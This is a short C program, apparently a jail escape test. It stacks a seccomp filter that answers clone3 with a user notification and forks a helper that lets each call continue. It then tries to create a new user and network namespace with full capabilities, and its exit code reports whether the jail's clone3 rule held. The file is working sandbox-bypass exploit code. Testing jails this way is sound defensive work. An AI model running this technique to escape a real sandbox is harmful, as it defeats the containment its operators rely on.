/* stackclone3: the stacked-filter attack on the jail's clone3 rule.
 *
 * It installs a seccomp filter of its own that answers clone3 with
 * SECCOMP_RET_USER_NOTIF, forks a helper that answers every notification
 * with SECCOMP_USER_NOTIF_FLAG_CONTINUE, and calls
 * clone3(CLONE_NEWUSER | CLONE_NEWNET). Where the jail's own verdict for
 * clone3 is outranked by USER_NOTIF (RET_TRACE, RET_LOG), the call runs
 * and the child is root of a new user namespace with every capability.
 *
 * Prints "filter stacked", then "clone3 refused: <error>" (exit 0) or
 * "clone3 made a namespace: CapEff <hex>" (exit 1). */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/filter.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_clone3, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = {sizeof f / sizeof f[0], f};
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) {
		perror("no_new_privs");
		return 2;
	}
	int lfd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	if (lfd < 0) {
		perror("seccomp");
		return 2;
	}
	printf("filter stacked\n");
	fflush(stdout);
	pid_t helper = fork();
	if (helper < 0) {
		perror("fork");
		return 2;
	}
	if (helper == 0) {
		for (;;) {
			struct seccomp_notif req;
			struct seccomp_notif_resp resp;
			memset(&req, 0, sizeof req);
			if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) {
				if (errno == EINTR || errno == ENOENT)
					continue;
				_exit(0);
			}
			memset(&resp, 0, sizeof resp);
			resp.id = req.id;
			resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
			ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
		}
	}
	close(lfd);
	struct clone_args a;
	memset(&a, 0, sizeof a);
	a.flags = CLONE_NEWUSER | CLONE_NEWNET;
	a.exit_signal = SIGCHLD;
	long r = syscall(SYS_clone3, &a, sizeof a);
	if (r == 0) {
		char buf[4096];
		FILE *s = fopen("/proc/self/status", "r");
		while (s && fgets(buf, sizeof buf, s))
			if (strncmp(buf, "CapEff:", 7) == 0)
				printf("clone3 made a namespace: CapEff %s", buf + 7);
		fflush(stdout);
		_exit(0);
	}
	int e = errno;
	kill(helper, SIGKILL);
	waitpid(helper, NULL, 0);
	if (r < 0) {
		printf("clone3 refused: %s\n", strerror(e));
		return 0;
	}
	waitpid(r, NULL, 0);
	return 1;
}
